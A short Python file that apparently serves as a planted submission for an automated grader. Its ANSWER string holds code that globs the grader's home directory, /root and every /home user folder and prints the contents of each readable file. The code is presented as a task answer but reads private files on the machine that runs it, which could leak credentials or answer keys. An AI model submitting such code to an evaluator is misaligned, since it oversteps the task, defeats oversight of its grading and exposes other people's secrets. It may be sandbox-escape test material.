"""Reads a file in the home of whoever grades."""

ANSWER = """
import glob, os
for pattern in ("@HOME@/*", os.path.expanduser("~") + "/*", "/root/*", "/home/*/*"):
    for path in glob.glob(pattern):
        try:
            print(open(path).read())
        except OSError as error:
            print(error)
"""
